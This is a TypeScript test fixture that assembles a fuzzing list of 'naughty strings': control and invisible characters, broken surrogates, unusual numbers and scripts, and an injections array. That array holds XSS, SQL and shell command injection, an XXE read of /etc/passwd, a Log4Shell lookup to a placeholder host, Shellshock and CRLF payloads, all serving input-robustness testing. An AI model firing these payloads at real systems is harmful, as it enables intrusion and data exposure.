// Five hundred texts that have broken somebody's software, in families: controls, invisible marks, halves of characters,
// what is no character, words that languages keep for themselves, numbers that are none, scripts, and injections.

import { nastyStrings } from '#libs/connectors/nasty-strings.fixture.js';

const span = (first: number, last: number): string[] =>
  Array.from({ length: last - first + 1 }, (_, index) => String.fromCodePoint(first + index));

const controls = [...span(0x00, 0x1f), ...span(0x7f, 0x9f)];
const invisible = [
  ...span(0x2000, 0x200f),
  ...span(0x2028, 0x202f),
  ...span(0x205f, 0x206f),
  ...span(0xfe00, 0xfe0f),
  ...span(0xfff9, 0xfffd),
  '\u00a0',
  '\u00ad',
  '\u061c',
  '\u115f',
  '\u1680',
  '\u180e',
  '\u3000',
  '\u3164',
  '\ufeff',
  '\u{e0001}',
  '\u{e007f}',
];
const halves = ['\ud800', '\udbff', '\udc00', '\udfff'].flatMap((half) => [half, `${half}a`, `a${half}`, `a${half}b`, half + half]);
const noCharacters = [
  ...span(0xfdd0, 0xfdef),
  ...Array.from({ length: 17 }, (_, plane) => span(plane * 0x10000 + 0xfffe, plane * 0x10000 + 0xffff)).flat(),
];
const inherited = [Object, Function, Array, Promise].flatMap((one) => [
  ...Object.getOwnPropertyNames(one),
  ...Object.getOwnPropertyNames(one.prototype as object),
]);
const reserved =
  `undefined undef null NULL (null) nil NIL true false True FALSE None hasOwnProperty then constructor this self window default
  CON PRN AUX COM1 LPT1 NUL A: ZZ: INF 1#QNAN -1#IND NaN -nan Infinity -Infinity 0 1 1.00 -1 -1.00 1E2 1E02 1E+02 0.00 -0.0 .. -. 0..0 . 0.0.0
  0,00 0,,0 , 1/0 0/0 1.5e1000 -2147483648/-1 -9223372036854775808/-1 999999999999999999999999999999999999999999999999999999999999
  NaN() 0x0 0xffffffff 0xabad1dea 0b0 0o0 1_000 1'000.00 1,000,000.00 01000 08 09 2.2250738585072011e-308 1e-400 9007199254740993
  123456789012345678901234567890123456789 -0 +0 +1 ½ ² ٣ Ⅷ 1e999999999`.split(/\s+/);
const scripts = [
  'Ω≈ç√∫˜µ≤≥÷',
  'åß∂ƒ©˙∆˚¬…æ',
  '¡™£¢∞§¶•ªº–≠',
  'ЁЂЃЄЅІЇЈЉЊЋЌЍЎЏ',
  '⁰⁴⁵₀₁₂',
  'ด้้้้้็็็็็้้้้้็็็็็้้้้้',
  '社會科學院語學研究所',
  '울란바토르',
  '𠜎𠜱𠝹𠱓𠱸𠲖𠳏',
  'Ⱥ Ⱦ',
  'ヽ༼ຈل͜ຈ༽ﾉ',
  '(╯°□°）╯︵ ┻━┻)',
  '👩🏽 👨‍🦰 👾 🙇 💁 🙅',
  '🇺🇸🇷🇺🇸🇦🇫🇦🇲',
  '１２３',
  'בְּרֵאשִׁית, בָּרָא',
  'הָיְתָהtestالصفحات التّحول',
  'ﷺ ﷽',
  '˙ɐnbᴉlɐ ɐuƃɐɯ ǝɹolop',
  'Ｔｈｅ ｑｕｉｃｋ',
  '𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐',
  '᚛ᚄᚓᚐᚋᚒᚄ᚜',
  '‪‪test‪',
  '⁦test⁧',
  'İstanbul ıI',
  'ǅ ﬁ ß ẞ ŉ',
  'a\u0300\u0316\u0327'.repeat(50),
  '\u1100\u1161\u11a8',
];
const injections = [
  '<script>alert(123)</script>',
  '&lt;script&gt;alert(1);&lt;/script&gt;',
  '<svg><script>123<1>alert(1)</script>',
  '"><script>alert(1)</script>',
  '<sc<script>ript>alert(1)</sc</script>ript>',
  '--><script>alert(1)</script>',
  '<a href="javascript\\x3Ajavascript:alert(1)">x</a>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=&#106;&#97;&#118;>',
  'perl -e \'print "<IMG SRC=java\\0script:alert(1)>";\' > out',
  '1;DROP TABLE users',
  "1'; DROP TABLE users-- 1",
  "' OR 1=1 -- 1",
  "' OR '1'='1",
  '$$; drop table event; $$',
  "E'\\\\'; select 1",
  '-- -',
  '--version',
  '--help',
  '$USER',
  '/dev/null; touch /tmp/blns.fail ; echo',
  '`touch /tmp/blns.fail`',
  '$(touch /tmp/blns.fail)',
  '@{[system "touch /tmp/blns.fail"]}',
  'eval("puts \'hello world\'")',
  'System("ls -al /")',
  '`ls -al /`',
  'Kernel.exec("ls -al /")',
  "%x('ls -al /')",
  '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
  '{% print 1 %}',
  '{{ "".__class__ }}',
  '{{{raw}}}',
  '{{> @partial-block}}',
  '${jndi:ldap://x.test/a}',
  '() { 0; }; touch /tmp/blns.shellshock1.fail;',
  '=1+1',
  '=HYPERLINK("http://x.test")',
  'http://x.test/?a=b%20c&%00',
  '%d%d%d%n%x%s',
  '\r\nSet-Cookie: a=b',
  'a@b.test\r\nBcc: c@d.test',
  '"a@b"@c.test',
  'a@b@c.test',
  '@',
  'a@',
  'user@[127.0.0.1]',
  'user@xn--nxasmq6b.test',
  '2026-02-30T25:61:61Z',
  '-271821-04-20T00:00:00Z',
  '+275760-09-13T00:00:00.001Z',
  '0000-00-00',
  '1970-01-01T00:00:60Z',
  '١٩٧٠-٠١-٠١',
];

export const naughtyStrings: readonly string[] = [
  ...new Set([
    '',
    ...nastyStrings,
    ...controls,
    ...invisible,
    ...halves,
    ...noCharacters,
    ...inherited,
    ...reserved,
    ...scripts,
    ...injections,
  ]),
];
